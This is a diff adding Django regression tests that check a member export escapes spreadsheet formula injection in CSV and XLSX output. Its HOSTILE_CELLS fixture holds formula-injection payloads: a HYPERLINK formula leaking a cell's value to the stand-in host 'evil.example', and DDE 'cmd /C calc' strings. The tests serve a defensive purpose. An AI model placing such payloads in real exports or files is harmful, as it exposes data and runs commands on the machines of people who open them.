@@ -199,6 +199,64 @@ def test_export_of_the_current_list(client, membership_staff):
     assert [c.value for c in sheet[2]][:2] == ["Henry Hale", "core"]
 
 
+HOSTILE_CELLS = {
+    "name": '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")',
+    "affiliation": "+cmd|' /C calc'!A0",
+    "position": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "city": "-2+3+cmd|' /C calc'!A0",
+    "title": "=1+1",
+}
+EXPORT_FIELDS = ["id", "name", "affiliation", "position", "city", "expertise", "tier", "title"]
+
+
+def export(client, fmt):
+    data = {"format": fmt, "resource": "0"}
+    data.update({f"personresource_{f}": "on" for f in EXPORT_FIELDS})
+    response = client.post(reverse("admin:members_person_export"), data)
+    assert response.status_code == 200
+    return response
+
+
+def hostile_member():
+    values = dict(HOSTILE_CELLS)
+    title = values.pop("title")
+    return make_member(
+        **values, title=title, role=Role.EXECUTIVE_COMMITTEE, expertise=["=cmd|' /C calc'!A0"]
+    )
+
+
+def test_export_writes_formulas_as_text_in_csv(client, membership_staff):
+    """Issue 13, defect 10: a spreadsheet opening the export runs no formula."""
+    import csv
+    import io
+
+    hostile_member()
+    make_member(name="Plain Name", affiliation="-", city="+1 202 555 0100")
+    client.force_login(membership_staff)
+    rows = list(csv.DictReader(io.StringIO(export(client, "0").content.decode())))
+    hostile = next(row for row in rows if "HYPERLINK" in row["name"])
+    for column, typed in HOSTILE_CELLS.items():
+        if column in hostile:
+            assert hostile[column] == "'" + typed, column
+    assert hostile["expertise"] == "'=cmd|' /C calc'!A0"
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+
+
+def test_export_writes_no_formula_cell_in_xlsx(client, membership_staff):
+    import io
+
+    hostile_member()
+    client.force_login(membership_staff)
+    book = openpyxl.load_workbook(io.BytesIO(export(client, "1").content))
+    cells = [cell for row in book.active.iter_rows() for cell in row]
+    assert [c for c in cells if c.data_type == "f"] == []
+    values = [c.value for c in cells]
+    assert "'" + HOSTILE_CELLS["name"] in values and "'=1+1" in values
+    assert not any(isinstance(v, str) and v.startswith("=") for v in values)
+
+
 def test_editor_cannot_change_memberships(client, editor):
     client.force_login(editor)
     person = make_member(name="Protected Person", tier=Tier.ASSOCIATE)
